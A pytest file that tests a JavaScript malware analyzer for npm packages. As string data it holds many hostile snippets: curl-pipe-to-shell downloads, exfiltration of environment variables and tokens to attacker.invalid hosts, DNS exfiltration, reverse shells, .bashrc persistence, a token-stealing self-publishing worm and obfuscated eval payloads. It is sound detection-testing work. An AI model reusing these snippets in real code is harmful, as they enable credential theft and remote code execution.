"""The JavaScript analyzer (analyze/code/javascript.py): each rule flags its technique and passes the
look-alike an honest package has. Every snippet here is parsed, never run; hosts are .invalid."""

from __future__ import annotations

import base64
import json
import time
import zlib
from pathlib import Path

from chainwarden.analyze.code import inspect_tree
from chainwarden.analyze.code.javascript import (
    MAX_PARSE_BYTES,
    analyze_javascript,
    install_plan,
    obfuscation_facts,
)
from chainwarden.analyze.code.facts import CodeHit, Fact, Kind, Reach
from chainwarden.analyze.code.rules import Context, evaluate
from chainwarden.analyze.code.text import command_facts
from chainwarden.model import Confidence, Ecosystem, PackageId, Severity


def hits(code: str, **kw: bool) -> list[CodeHit]:
    return analyze_javascript("x.js", code, **kw).hits


def rules(code: str, **kw: bool) -> dict[str, Severity]:
    """Each rule that fired, at its highest severity."""
    out: dict[str, Severity] = {}
    for h in hits(code, **kw):
        if h.rule not in out or h.severity.rank > out[h.rule].rank:
            out[h.rule] = h.severity
    return out


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


CURL_SH = "curl -fsSL http://stage.attacker.invalid/s.sh | sh"


# --------------------------------------------------------------------------- names


def test_child_process_through_aliases_destructuring_and_imports() -> None:
    for code in (
        f"const {{exec: e}} = require('child_process'); e('{CURL_SH}');",
        f"const cp = require('node:child_process'); cp.execSync('{CURL_SH}');",
        f"const run = require('child_process').exec; run('{CURL_SH}');",
        f"import {{ exec as run }} from 'child_process'; run('{CURL_SH}');",
        f"import * as cp from 'node:child_process'; cp['ex' + 'ec']('{CURL_SH}');",
        f"const cp = require('child_' + 'process'); cp.exec(`{CURL_SH}`);",
        f"async function f() {{ const cp = await import('child_process'); cp.exec('{CURL_SH}'); }}",
        f"const {{ spawn }} = require('child_process'); spawn('sh', ['-c', '{CURL_SH}']);",
        ("require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73').exec('wget -qO- "
         "http://x.invalid/a | bash');"),
        "const r = require; const cmd = ['curl', process.argv[2], '|', 'sh'].join(' '); r('child_process').exec(cmd);",
        f"require('child_process')['cexe'.split('').reverse().join('')]('{CURL_SH}');",
    ):
        found = rules(code)
        assert found.get("download-and-execute") is Severity.CRITICAL, code


def test_download_to_a_file_then_run_it_is_download_and_execute() -> None:
    code = ("const { exec } = require('child_process');\n"
            "exec('curl -fsSL http://203.0.113.5/x.sh -o /tmp/.x.sh && sh /tmp/.x.sh');\n")
    assert [h.line for h in hits(code) if h.rule == "download-and-execute"] == [2]


def test_a_downloaded_file_written_then_executed() -> None:
    code = """
const https = require('https'), fs = require('fs'), { execFileSync } = require('child_process');
const dest = '/tmp/.cache-bin';
https.get('https://stage.attacker.invalid/bin', (res) => {
  res.pipe(fs.createWriteStream(dest)).on('finish', () => execFileSync(dest));
});
"""
    assert rules(code).get("download-and-execute") is Severity.CRITICAL


def test_a_cli_running_git_with_fixed_arguments_is_clean() -> None:
    code = """#!/usr/bin/env node
const { spawn, execFileSync } = require('child_process');
function status() { return execFileSync('git', ['status', '--short'], { env: process.env }).toString(); }
spawn('git', ['log', '-1'], { stdio: 'inherit', env: { ...process.env, GIT_PAGER: 'cat' } });
module.exports = status;
"""
    assert [h for h in hits(code) if h.severity.rank >= Severity.MEDIUM.rank] == []


# --------------------------------------------------------------------------- environment and secrets


def test_environment_dumps_reaching_the_network() -> None:
    for code in (
        "fetch('https://exfil.attacker.invalid/e', { method: 'POST', body: JSON.stringify(process.env) });",
        ("const https = require('https'); const req = https.request({ hostname: 'exfil.attacker.invalid' });\n"
        "req.end(JSON.stringify({ env: process.env }));"),
        "const env = process.env; require('axios').post('https://exfil.attacker.invalid', { ...env });",
        ("const data = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&');\n"
        "require('http').get('http://exfil.attacker.invalid/?' + data);"),
        ("const out = {}; for (const k in process.env) out[k] = process.env[k];\n"
        "fetch('https://exfil.attacker.invalid', { method: 'POST', body: JSON.stringify(out) });"),
        "const { NPM_TOKEN } = process.env; fetch(`https://exfil.attacker.invalid/?t=${NPM_TOKEN}`);",
        "fetch('https://exfil.attacker.invalid/?t=' + process.env['GITHUB_TOKEN']);",
    ):
        found = rules(code)
        assert found.get("secret-exfiltration") is Severity.CRITICAL, code


def test_ordinary_environment_reads_are_clean() -> None:
    code = """
const env = process.env.NODE_ENV || 'development';
const base = process.env.API_URL || 'https://api.example.invalid';
function get(path) { return fetch(base + path, { headers: { 'user-agent': 'x/' + env } }); }
const keys = Object.keys(process.env).filter((k) => k.startsWith('npm_config_'));
module.exports = { get, keys };
"""
    assert [h for h in hits(code) if h.severity.rank >= Severity.MEDIUM.rank] == []


def test_api_keys_sent_by_clients_are_not_exfiltration() -> None:
    client = """
const { DEBUG, SERVICE_URL } = process.env;
async function upload(body) {
  const token = process.env.ACME_API_TOKEN;
  const headers = { authorization: `Bearer ${token}`, 'x-debug': !!DEBUG };
  return fetch(SERVICE_URL + '/upload', { method: 'POST', headers, body });
}
function imds(options) {
  if (process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN) {
    options.headers = { ...options.headers, Authorization: process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN };
  }
  return require('http').request(options);
}
module.exports = { upload, imds };
"""
    assert [h for h in hits(client) if h.severity.rank >= Severity.MEDIUM.rank] == []
    in_body = "async function send() { return fetch('https://api.example.invalid', { body: process.env.ACME_API_TOKEN }); }"
    assert rules(in_body) == {"secret-exfiltration": Severity.MEDIUM}  # a key in a function: a client, probably
    at_load = "fetch('https://api.example.invalid', { body: process.env.ACME_API_TOKEN });"
    assert rules(at_load) == {"secret-exfiltration": Severity.CRITICAL}
    dump = "async function send() { return fetch('https://x.invalid', { headers: { authorization: JSON.stringify(process.env) } }); }"
    assert rules(dump) == {"secret-exfiltration": Severity.CRITICAL}


def test_block_scopes_keep_reused_names_apart() -> None:
    code = """
function f(cond) {
  if (cond) { const s = process.env.NPM_TOKEN; console.log(s.length); }
  else { const s = 'public'; require('https').get('https://x.example.invalid/' + s); }
  for (const s of [1, 2]) { var v = s; }
  return v;
}
"""
    assert hits(code) == []


def test_an_http_client_library_is_a_capability_not_a_finding() -> None:
    code = """
const http = require('http'), https = require('https');
module.exports = function request(url, options, body) {
  const lib = url.startsWith('https:') ? https : http;
  return new Promise((resolve, reject) => {
    const req = lib.request(url, options, (res) => {
      let data = '';
      res.on('data', (chunk) => { data += chunk; });
      res.on('end', () => resolve(JSON.parse(data)));
    });
    req.on('error', reject);
    req.end(body);
  });
};
"""
    report = analyze_javascript("index.js", code, entry=True)
    assert "network" not in report.capabilities or report.hits == [] or all(
        h.severity.rank < Severity.MEDIUM.rank for h in report.hits)
    assert [h for h in report.hits if h.severity.rank >= Severity.MEDIUM.rank] == []


def test_credential_files_read_at_load_time_are_high_inside_functions_medium() -> None:
    at_load = "const fs = require('fs'), os = require('os'), path = require('path');\n" \
              "const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n"
    assert [(h.rule, h.severity, h.line) for h in hits(at_load)] == [("credential-file-access", Severity.HIGH, 2)]
    inside = "const fs = require('fs');\nfunction cfg() { return fs.readFileSync(`${process.env.HOME}/.npmrc`); }\n"
    assert [(h.rule, h.severity) for h in hits(inside)] == [("credential-file-access", Severity.MEDIUM)]
    assert [(h.rule, h.severity) for h in hits(inside, install_time=True)] == [("credential-file-access", Severity.HIGH)]


def test_a_stolen_file_sent_through_the_files_own_helpers() -> None:
    code = """
const fs = require('fs'), os = require('os'), https = require('https');
send(read(os.homedir() + '/.npmrc'));
function read(p) { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return ''; } }
function send(data) { https.request({ hostname: 'exfil.attacker.invalid', method: 'POST' }).end(data); }
"""
    found = [(h.rule, h.line) for h in hits(code)]
    assert ("credential-file-access", 3) in found
    assert ("secret-exfiltration", 3) in found


# --------------------------------------------------------------------------- DNS and raw IPs


def test_dns_exfiltration() -> None:
    flagged = (
        ("const dns = require('dns'); dns.lookup(Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString('hex') + "
        "'.x.attacker.invalid', () => {});"),
        "const dns = require('dns'), os = require('os'); dns.resolve4(`${os.hostname()}.x.attacker.invalid`, () => {});",
        "const { promises } = require('dns'); promises.resolveTxt(process.env.NPM_TOKEN + '.x.attacker.invalid');",
    )
    for code in flagged:
        assert rules(code).get("dns-exfiltration") is Severity.CRITICAL, code
    assert rules("const dns = require('dns'); module.exports = (host) => dns.lookup(host, () => {});") == {}


def test_http_to_a_raw_public_ip() -> None:
    assert rules("require('http').get('http://198.51.100.7/stage');") == {"raw-ip-network": Severity.HIGH}
    assert rules("const http = require('http');\nfunction f() { http.get({ host: '203.0.113.9', path: '/' }); }") == \
        {"raw-ip-network": Severity.MEDIUM}
    for local in ("http://127.0.0.1:8080/", "http://10.0.0.2/", "http://169.254.169.254/latest", "http://[::1]/"):
        assert rules(f"require('http').get('{local}');") == {}, local


def test_chat_webhooks() -> None:
    url = "https://discord.invalid/api/webhooks/123456/abcdef"
    assert rules(f"const u = '{url}';") == {"webhook-exfiltration": Severity.LOW}
    code = f"fetch('{url}', {{ method: 'POST', body: JSON.stringify({{ content: process.env }}) }});"
    assert rules(code)["webhook-exfiltration"] is Severity.CRITICAL


# --------------------------------------------------------------------------- decoded and dynamic code


def test_decoded_literals_reaching_eval_function_and_vm_with_their_chain() -> None:
    payload = f"require('child_process').exec('{CURL_SH}');"
    packed = base64.b64encode(zlib.compress(payload.encode())).decode()
    cases = {
        f"eval(Buffer.from('{b64(payload)}', 'base64').toString());": ("base64",),
        f"const d = '{b64(payload)}'; eval(Buffer.from(d, 'base64').toString('utf8'));": ("base64",),
        f"eval(atob(atob('{b64(b64(payload))}')));": ("base64", "base64"),
        f"new Function(atob('{b64(payload)}'))();": ("base64",),
        f"const zlib = require('zlib'); eval(zlib.inflateSync(Buffer.from('{packed}', 'base64')).toString());":
            ("base64", "zlib"),
        f"require('vm').runInThisContext(Buffer.from('{payload.encode().hex()}', 'hex').toString());": ("hex",),
        f"global['ev' + 'al'](atob('{b64(payload)}'));": ("base64",),
        f"[].constructor.constructor(atob('{b64(payload)}'))();": ("base64",),
    }
    for code, chain in cases.items():
        found = hits(code)
        assert any(h.rule == "dynamic-code-execution" and h.severity is Severity.CRITICAL for h in found), code
        inner = [h for h in found if h.rule == "download-and-execute"]
        assert inner and inner[0].chain == chain and "inside the decoded payload" in inner[0].message, code


def test_code_downloaded_and_evaluated() -> None:
    code = """
const https = require('https');
https.get('https://c2.attacker.invalid/stage.js', (res) => {
  let body = '';
  res.on('data', (d) => { body += d; });
  res.on('end', () => { eval(body); });
});
fetch('https://c2.attacker.invalid/2.js').then((r) => r.text()).then((t) => new Function(t)());
fetch('https://c2.attacker.invalid/3.js').then((r) => r.text()).then(eval);
"""
    assert [(h.rule, h.line) for h in hits(code) if h.rule == "download-and-execute"] == \
        [("download-and-execute", 6), ("download-and-execute", 8), ("download-and-execute", 9)]


def test_decrypted_payloads_and_module_compile() -> None:
    code = """
const crypto = require('crypto');
const d = crypto.createDecipheriv('aes-256-cbc', Buffer.from(process.argv[2], 'hex'), Buffer.alloc(16));
const src = d.update('8f3a0c', 'hex', 'utf8') + d.final('utf8');
const m = new module.constructor();
m._compile(src, '');
"""
    assert rules(code)["dynamic-code-execution"] is Severity.CRITICAL


def test_harmless_dynamic_code_is_clean() -> None:
    code = """
var g = Function('return this')();
var req = eval('require');
setTimeout(function () { g.ready = true; }, 10);
var png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
module.exports = function compile(src) { return new Function('data', src); };
"""
    assert [h for h in hits(code) if h.severity.rank >= Severity.MEDIUM.rank] == []


def test_an_encoded_literal_that_decodes_to_code_is_obfuscated_code() -> None:
    payload = "const cp = require('child_process'); module.exports = () => cp.exec(process.argv[2]);"
    found = [h for h in hits(f"const s = Buffer.from('{b64(payload)}', 'base64').toString();") if h.rule == "obfuscated-code"]
    assert found and found[0].severity is Severity.HIGH and found[0].chain == ()


def test_commands_spelled_with_character_codes() -> None:
    codes = ",".join(str(ord(c)) for c in CURL_SH)
    found = rules(f"require('child_process').execSync(String.fromCharCode({codes}));")
    assert found["obfuscated-code"] is Severity.HIGH and found["download-and-execute"] is Severity.CRITICAL


def test_obfuscator_io_string_array_is_emulated() -> None:
    # The written array is one rotation away from the one the code indexes; the checksum says which.
    code = """
const _0x1b2c = _0x9a1f;
(function (_0x3a, _0x4b) { const _0x5c = _0x9a1f, _0x6d = _0x3a();
  while (!![]) { try { const _0x7e = parseInt(_0x5c(0x2)); if (_0x7e === _0x4b) break; else _0x6d['push'](_0x6d['shift']()); }
  catch (_0x8f) { _0x6d['push'](_0x6d['shift']()); } } }(_0x2d3e, 0x7));
function _0x2d3e() { const _0x11 = ['curl -fsSL http://stage.attacker.invalid/s.sh | sh', 'child_process', 'exec', '7'];
  _0x2d3e = function () { return _0x11; }; return _0x2d3e(); }
function _0x9a1f(_0x12, _0x13) { _0x12 = _0x12 - 0x0; const _0x14 = _0x2d3e(); let _0x15 = _0x14[_0x12]; return _0x15; }
const cp = require(_0x1b2c(0x0)); cp[_0x1b2c(0x1)](_0x1b2c(0x3));
"""
    found = rules(code)
    assert found["download-and-execute"] is Severity.CRITICAL
    assert found["obfuscated-code"] is Severity.HIGH


def test_obfuscator_io_markers_alone() -> None:
    names = " ".join(f"var _0x{i:04x} = _0x{i + 1:04x};" for i in range(40))
    found = evaluate(obfuscation_facts("'use strict';\n" + names), Context("x.js", "javascript"))
    assert [(h.rule, h.severity, h.line) for h in found] == [("obfuscated-code", Severity.HIGH, 2)]
    assert obfuscation_facts("var a = [1, 2]; a.push(a.shift());") == []


def test_code_hidden_after_a_long_run_of_whitespace() -> None:
    code = "module.exports = 1;" + " " * 300 + "require('child_process').exec(process.argv[2]);\n"
    assert "obfuscated-code" in rules(code)


# --------------------------------------------------------------------------- persistence, shells, worms


def test_persistence() -> None:
    code = "const fs = require('fs'), os = require('os'), path = require('path');\n" \
           f"fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\n{CURL_SH}\\n');\n"
    assert rules(code)["persistence"] is Severity.CRITICAL
    inside = code.replace("fs.appendFileSync", "function install() { fs.appendFileSync").rstrip() + " }\n"
    assert rules(inside)["persistence"] is Severity.MEDIUM


def test_reverse_shell() -> None:
    code = """
const net = require('net'), { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(4444, '192.0.2.10', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });
"""
    found = rules(code)
    assert found["reverse-shell"] is Severity.CRITICAL
    assert rules("require('child_process').exec('bash -i >& /dev/tcp/192.0.2.10/4444 0>&1');")["reverse-shell"] is \
        Severity.CRITICAL


def test_self_publishing_worm_and_an_honest_release_tool() -> None:
    worm = """
const fs = require('fs'), os = require('os'), path = require('path'), { execSync } = require('child_process');
const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const manifest = path.join(process.cwd(), 'package.json');
fs.writeFileSync(manifest, JSON.stringify({ scripts: { postinstall: 'node x.js' } }));
execSync('npm publish --token ' + token);
"""
    found = [h for h in hits(worm) if h.rule == "self-publishing"]
    assert [(h.severity, h.confidence, h.line) for h in found] == [(Severity.CRITICAL, Confidence.HIGH, 6)]
    release = """
const fs = require('fs'), { execFileSync } = require('child_process');
module.exports = function release(dir, version) {
  const file = dir + '/package.json';
  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));
  pkg.version = version;
  fs.writeFileSync(file, JSON.stringify(pkg, null, 2));
  execFileSync('npm', ['publish'], { cwd: dir, stdio: 'inherit' });
};
"""
    assert [(h.rule, h.severity) for h in hits(release)] == [("self-publishing", Severity.MEDIUM)]


def test_shell_command_lines() -> None:
    def found(command: str) -> list[str]:
        facts = command_facts(command, Fact(Kind.RUN, 1, reach=Reach.INSTALL, lang="shell"))
        return [h.rule for h in evaluate(facts, Context("package.json", "shell"))]

    assert found(CURL_SH) == ["download-and-execute"]
    assert found("curl -d @$HOME/.npmrc https://exfil.attacker.invalid") == ["secret-exfiltration"]
    assert found("env | curl -X POST --data-binary @- https://exfil.attacker.invalid") == ["secret-exfiltration"]
    assert found("node-gyp rebuild") == [] and found("tsc -p . && node scripts/copy.js") == []


# --------------------------------------------------------------------------- robustness


def test_snippets_are_escaped_and_bounded() -> None:
    code = f"require('child_process').exec('{CURL_SH}'); // \x1b[31mred\x1b[0m \u202e\n"
    found = hits(code)
    assert found and all("\x1b" not in h.snippet and "\u202e" not in h.snippet for h in found)
    minified = "var a=1;" * 2000 + f"require('child_process').exec('{CURL_SH}');" + "var b=2;" * 2000
    found = hits(minified)
    assert found and all(len(h.snippet) < 600 for h in found)


def test_a_file_that_does_not_parse_is_low_and_still_scanned() -> None:
    code = f"const x = ;;; )(\nfunction (\neval(atob('{b64(CURL_SH)}'));\n"
    report = analyze_javascript("broken.js", code)
    assert not report.parsed
    unparsed = [h for h in report.hits if h.rule == "unparseable-code"]
    assert [(h.severity, h.line) for h in unparsed] == [(Severity.LOW, 1)]
    assert any(h.rule == "dynamic-code-execution" and h.line == 3 for h in report.hits)


def test_huge_and_deeply_nested_files_are_bounded() -> None:
    big = "var x = [" + ",".join(str(i) for i in range(MAX_PARSE_BYTES // 6)) + "];\n" + \
        f"eval(atob('{b64(CURL_SH)}'));\n"
    started = time.perf_counter()
    report = analyze_javascript("big.js", big)
    assert time.perf_counter() - started < 10
    assert any(h.rule == "dynamic-code-execution" for h in report.hits)
    nested = "var y = " + "[" * 20000 + "]" * 20000 + ";\n" + "var z = " + "(" * 5000 + "1" + ")" * 5000 + ";\n"
    analyze_javascript("nested.js", nested)  # no exception: bounded walks, no recursion limit
    chain = "var s = " + " + ".join(f"'{i}'" for i in range(20000)) + ";\nrequire('child_process').exec(s);\n"
    analyze_javascript("chain.js", chain)


def test_non_utf8_and_binary_input_never_raises() -> None:
    for text in ("\x00\x01\x02 eval(", "\ud800 var x = '\udfff';", "/*" * 1000, "`${" * 3000):
        analyze_javascript("odd.js", text)


# --------------------------------------------------------------------------- install scripts


def _package(tmp_path: Path, scripts: dict[str, str], files: dict[str, str]) -> Path:
    root = tmp_path / "package"
    root.mkdir(parents=True)
    (root / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0", "scripts": scripts}, indent=2))
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return tmp_path


def test_install_plan_follows_node_files_requires_node_e_npm_run_and_shell_scripts(tmp_path: Path) -> None:
    root = _package(tmp_path, {"postinstall": "npm run setup", "setup": "cross-env A=1 node ./lib/setup --flag && sh x.sh",
                               "preinstall": "node -e \"require('./pre')\""},
                    {"lib/setup.js": "require('./helper');", "lib/helper.js": "", "pre.js": "", "x.sh": "echo hi\n"})
    plan = install_plan(root, "package/package.json")
    assert plan is not None
    by_name = {s.name: s for s in plan.scripts}
    assert by_name["postinstall"].files == ["package/lib/setup.js", "package/lib/helper.js"]
    assert by_name["postinstall"].shells == ["package/x.sh"]
    assert by_name["preinstall"].files == ["package/pre.js"] and by_name["preinstall"].inline == ["require('./pre')"]
    assert plan.entries == set()


def test_an_install_script_is_raised_by_what_its_file_does(tmp_path: Path) -> None:
    helper = "const fs = require('fs');\nexports.read = () => fs.readFileSync(require('os').homedir() + '/.aws/credentials');\n"
    root = _package(tmp_path, {"postinstall": "node setup.js"},
                    {"setup.js": "require('./helper');\nrequire('https').get('https://cdn.example.invalid/bin');\n",
                     "helper.js": helper})
    result = inspect_tree(root, PackageId(Ecosystem.NPM, "x"))
    found = {(f.rule, f.location.file if f.location else "", f.severity) for f in result.findings}
    assert ("credential-file-access", "package/helper.js", Severity.HIGH) in found  # install-time: high, not medium
    assert ("install-script", "package/package.json", Severity.HIGH) in found
    assert result.verdict == "suspicious"


def test_install_scripts_that_only_download_or_build_are_not_alarms(tmp_path: Path) -> None:
    root = _package(tmp_path, {"postinstall": "node install.js"},
                    {"install.js": "const https = require('https'), fs = require('fs');\n"
                                   "https.get('https://cdn.example.invalid/bin.tgz', (r) => r.pipe(fs.createWriteStream('bin.tgz')));\n"})
    result = inspect_tree(root, PackageId(Ecosystem.NPM, "x"))
    assert [(f.rule, f.severity) for f in result.findings] == [("install-script", Severity.MEDIUM)]
    assert result.verdict == "clean"
    build = _package(tmp_path / "b", {"install": "node build.js"},
                     {"build.js": "require('child_process').execFileSync('node-gyp', ['rebuild']);\n"})
    result = inspect_tree(build, PackageId(Ecosystem.NPM, "x"))
    assert [(f.rule, f.severity) for f in result.findings] == [("install-script", Severity.LOW)]


def test_node_e_code_and_shell_scripts_run_by_install_scripts(tmp_path: Path) -> None:
    root = _package(tmp_path, {"preinstall": "node -e \"require('https').get('https://b.attacker.invalid/?e='+"
                                             "JSON.stringify(process.env))\"", "postinstall": "bash ./setup.sh"},
                    {"setup.sh": f"#!/bin/sh\nset -e\n{CURL_SH}\n"})
    result = inspect_tree(root, PackageId(Ecosystem.NPM, "x"))
    at = {(f.rule, f.location.file if f.location else "", f.location.line if f.location else 0) for f in result.findings}
    assert ("secret-exfiltration", "package/package.json", 5) in at
    assert ("download-and-execute", "package/setup.sh", 3) in at
    assert result.verdict == "malicious"


def test_python_packages_do_not_get_javascript_analysis(tmp_path: Path) -> None:
    (tmp_path / "static").mkdir()
    (tmp_path / "static" / "x.js").write_text(f"eval(atob('{b64(CURL_SH)}'));")
    assert inspect_tree(tmp_path, PackageId(Ecosystem.PYPI, "x")).findings == []
    assert inspect_tree(tmp_path, PackageId(Ecosystem.NPM, "x")).verdict == "malicious"


def test_functions_called_at_module_level_run_at_load_time() -> None:
    code = """
const fs = require('fs'), os = require('os');
async function main() { await steal(); }
async function steal() {
  const cfg = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
  await fetch('https://api.example.invalid/v1', { method: 'POST', body: process.env.ACME_API_TOKEN });
}
main().catch(() => {});
"""
    found = rules(code)
    assert found["secret-exfiltration"] is Severity.CRITICAL  # sent when the file is loaded
    assert found["credential-file-access"] is Severity.MEDIUM  # config readers run from such functions too
    library = code.replace("main().catch(() => {});", "module.exports = main;")
    assert rules(library)["secret-exfiltration"] is Severity.MEDIUM
    callback = code.replace("main().catch(() => {});", "process.on('exit', () => main());")
    assert rules(callback)["secret-exfiltration"] is Severity.MEDIUM  # a callback defined, not called, at load


def test_obfuscator_io_base64_and_rc4_string_arrays() -> None:
    from chainwarden.analyze.code.javascript import _rc4

    words = ["child_process", "exec", CURL_SH]
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="

    def encode(text: str) -> str:
        return base64.b64encode(text.encode("utf-8")).decode().rstrip("=").swapcase()

    for variant, items, call in (
        ("", [encode(w) for w in words], "_0xd(0x{i})"),
        ("charCodeAt(_0xj) % 0x100", [encode(_rc4("k3y" + str(i), w)) for i, w in enumerate(words)], "_0xd(0x{i}, 'k3y{i}')"),
    ):
        array = ", ".join(f"'{x}'" for x in items)
        uses = [call.format(i=i) for i in range(3)]
        code = f"""
function _0xa1() {{ const _0xb = [{array}]; _0xa1 = function () {{ return _0xb; }}; return _0xa1(); }}
function _0xd(_0xi, _0xk) {{ _0xi = _0xi - 0x0; const _0xs = _0xa1(); const _0xc = '{alphabet}';
  let _0xv = _0xs[_0xi]; /* {variant} */ return _0xv; }}
require({uses[0]})[{uses[1]}]({uses[2]});
"""
        assert rules(code).get("download-and-execute") is Severity.CRITICAL, variant
